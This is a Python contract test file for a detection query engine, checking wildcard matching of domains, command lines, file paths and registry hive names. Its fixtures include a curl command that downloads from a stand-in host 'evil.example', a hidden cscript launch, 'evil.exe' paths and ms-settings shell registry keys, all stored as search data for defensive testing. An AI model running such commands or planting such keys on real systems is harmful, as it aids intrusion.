"""Characters at the edges of a value: dots around a domain, slashes and stars of a command line or
a path, hives by their short names. Evaluated by the engine;
tests/property/test_text_inside_tokens.py and tests/unit/query/test_match.py test the plain
rules."""

from collections.abc import Iterable

from tests.contract.store.rows import connection, file, partial, process_id, store
from vedette.model.event import Regmod
from vedette.model.scope import EVERYTHING
from vedette.model.tokens import cmdline_tokens
from vedette.query import check, compile_segments, parse
from vedette.store.engine.client import ClickHouseEngine
from vedette.store.partitions.index_build import suffix_indexes
from vedette.store.read.segment_search import search_segments

NAMES = ("bing.com", "www.bing.com", "com", "foo.com.au")
LINES = (
    "cscript.exe //E:jscript //nologo x.js",
    "cmd.exe / x.js",
    "curl.exe http://evil.example/a.gz",
    "/bin/ls /tmp/file",
)
PATHS = (r"C:\Users\ann\AppData\evil.exe", "/usr/local/bin/evil.sh")
KEYS = (
    r"\registry\machine\SOFTWARE\Evil",
    r"\registry\user\S-1-5-21-7\Software\Evil",
    r"\registry\user\S-1-5-21-7_Classes\ms-settings\shell",
    r"\registry\machine\software\classes\ms-settings\shell",
)

DOMAINS = {
    "co?.": [2],
    "c*.": [2],
    "bin?.": [0],
    "fo?.": [3],
    ".co?": [0, 1, 2],
    ".co?.": [3],
    ".c?m.": [3],
    ".bi*.": [1],
    ".*.": [1, 3],
    "..": [],
    ".": [],
    "...": [],
}
CMDLINES = {
    "/": [0, 1, 3],
    '"cscript.exe /"': [0],
    '"cmd.exe /"': [1],
    '"x.js /"': [],
    "//e:": [0],
    "/e:": [0],
    "//e:jscript": [0],
    "//nologo": [0],
    "/nologo": [0],
    '"//nologo x.js"': [0],
    "//evil.example": [2],
    "/evil.example": [],
    "evil.example/a.gz": [2],
    "/bin/ls": [3],
    "script.exe": [],
    "*script.exe": [0],
    '"*script.exe //e:jscript"': [0],
    "*olog*": [0],
    "*ttp://ev*": [2],
    "*il.example/a*": [2],
}
PARTS = {
    r"ppdata\evil.exe": [],
    r"*ppdata\evil.exe": [0],
    r"*ppdata\ev*": [0],
    r"appdata\evil.e": [],
    r"appdata\evil.e*": [0],
    "*cal/bin/ev*": [1],
    "local/bin": [],
    "*vil.*": [0, 1],
}
HIVES = {
    r"HKLM\software\evil": [0],
    r"HKLM:\software\*": [0, 3],
    r"HKEY_LOCAL_MACHINE\software\ev?l": [0],
    r"HKLM\software": [],
    r"HKU\S-1-5-21-7\software\evil": [1],
    r"HKU\*": [1, 2],
    r"HKCU\software\evil": [1],
    r"HKCU\soft*": [1],
    r"HKCU\evil": [],
    r"HKCU\software\classes\ms-settings\*": [2],
    r"HKCR\ms-settings\shell": [2, 3],
    r"HKCR\ms-set*": [2, 3],
    r"HKXX\software\evil": [],
}


def asked(engine: ClickHouseEngine, field: str, values: Iterable[str]) -> dict[str, list[int]]:
    """The numbers of the processes that each value finds."""
    return {value: _found(engine, f"{field}:{value}") for value in values}


def _found(engine: ClickHouseEngine, text: str) -> list[int]:
    where = compile_segments(check(parse(text), now_us=0), indexes=suffix_indexes(engine))
    found = search_segments(engine, where, EVERYTHING, rows=100)
    numbers = {process_id(number): number for number in range(10)}
    return sorted(numbers[row["process_id"]] for row in found.rows)


def test_dots_around_a_pattern_keep_their_place_in_the_domain(
    contract_engine: ClickHouseEngine,
) -> None:
    rows = (partial(number, connection(name)) for number, name in enumerate(NAMES))
    store(contract_engine, *rows)
    assert asked(contract_engine, "domain", DOMAINS) == DOMAINS


def test_slashes_and_stars_at_the_edge_of_a_value_of_a_command_line(
    contract_engine: ClickHouseEngine,
) -> None:
    rows = (
        partial(number, cmdline=line, cmdline_tokens=cmdline_tokens(line))
        for number, line in enumerate(LINES)
    )
    store(contract_engine, *rows)
    assert asked(contract_engine, "cmdline", CMDLINES) == CMDLINES


def test_a_path_is_found_from_inside_a_segment_by_a_star_alone(
    contract_engine: ClickHouseEngine,
) -> None:
    rows = (partial(number, file(path), path=path) for number, path in enumerate(PATHS))
    store(contract_engine, *rows)
    assert asked(contract_engine, "path", PARTS) == PARTS
    assert asked(contract_engine, "filemod", PARTS) == PARTS


def test_hives_have_the_names_that_people_use(contract_engine: ClickHouseEngine) -> None:
    rows = (
        partial(number, Regmod(process_id(number), 1_000, 2, path))
        for number, path in enumerate(KEYS)
    )
    store(contract_engine, *rows)
    assert asked(contract_engine, "regmod", HIVES) == HIVES
